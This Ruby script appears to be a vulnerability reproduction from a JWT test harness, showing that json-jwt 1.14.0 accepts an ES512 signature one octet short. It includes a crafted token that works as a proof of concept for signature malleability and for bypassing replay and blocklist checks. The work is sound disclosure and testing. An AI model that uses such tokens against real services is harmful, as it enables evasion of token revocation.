# frozen_string_literal: true

# Finding: json-jwt 1.14.0 accepts an ES512 signature of 131 octets instead of 132: a genuine
# signature whose s lost its leading zero octet. JSON::JWS#raw_to_asn1 takes r as the first 66
# octets (the key's size) and s as whatever follows, of any length, and never checks that the
# signature is exactly twice the key's size; no option of JSON::JWT.decode does.
#
# RFC 7518 §3.4: the JWS Signature is "the concatenation of the two unsigned integers ... each
# ... as octet sequences of 66 octets" for ES512, and a signature of another length MUST be
# rejected. Accepting re-encodings makes the signature malleable (one token, many valid
# signatures: replay caches and token blocklists keyed on the signature are bypassed).
#
# Reproduces: ecdsa/es512-sig-131-octets-s-short (forgery)
#
# Run: ruby adapters/json-jwt/repro-es512-short-sig.rb   (Debian's ruby and ruby-json-jwt; no
# network). Configured exactly as adapters/json-jwt/adapter.rb for this vector's profile
# (algorithms ES512); json-jwt checks no claims and reads no clock.

require 'json/jwt'

ID = 'ecdsa/es512-sig-131-octets-s-short'
TOKEN = 'eyJhbGciOiJFUzUxMiIsImtpZCI6InA1MjEiLCJ0eXAiOiJhdCtqd3QifQ.eyJhdWQiOiJodHRwczovL2FwaS5leGFtcGxlIiwiY2xpZW50X2l' \
        'kIjoiY2xpZW50LTEiLCJleHAiOjQxMDI0NDQ4MDAsImlhdCI6MTAwMDAwMDAwMCwiaXNzIjoiaHR0cHM6Ly9pc3N1ZXIuZXhhbXBsZSIsImp0a' \
        'SI6Imp0aS0wMDAxIiwic3ViIjoiMDFIWlkySjNLNE01TjZQN1E4UjlTMFQxVjIifQ.ASmDI8yrOkCbiJwvQsGm6bxJ81ndKWXXXvS1A03YtLvJ' \
        'h12OevKmZFrMK7MVtYsBpiDLwha8nevaP5AgBC18HJ_gaJ3sYKuyfnpY74ydBXIS0OJQe11tRhvnFPpqMH1rMkmPbfkkwPKERW0h-NPloKhv09' \
        '5JB56fmfmDcMNiAKoapr4'
JWKS = '{"keys":[{"alg":"ES512","crv":"P-521","kid":"p521","kty":"EC","use":"sig","x":"AQBWDia6cnF2VfA3xO8kmEFSN8LysA0' \
       'SPzi1S7U6eN9fiMJaCdGyXvw_kHcJ-cAIyuwVIBEB1UgoOzUkFjJ289o1","y":"AFcPFqZ56uio-PflDhAFXLWkaNCXs8emPSdxKQoB5Y0Kpt' \
       'CFiZKbFt6GEc0gBlxHtuwr_1hJSsH-1B-fyFVEgBj2"}]}'

begin
  jwt = JSON::JWT.decode(TOKEN, JSON::JWK::Set.new(JSON.parse(JWKS)), %i[ES512])
rescue StandardError => e
  puts "NOT REPRODUCED #{ID}: json-jwt #{Gem.loaded_specs['json-jwt'].version} rejected the token (#{e.class}: #{e.message})"
  exit 1
end
puts "REPRODUCED #{ID}: json-jwt #{Gem.loaded_specs['json-jwt'].version} accepted an ES512 signature of #{jwt.signature.bytesize} octets (sub #{jwt['sub'].inspect})"
exit 0
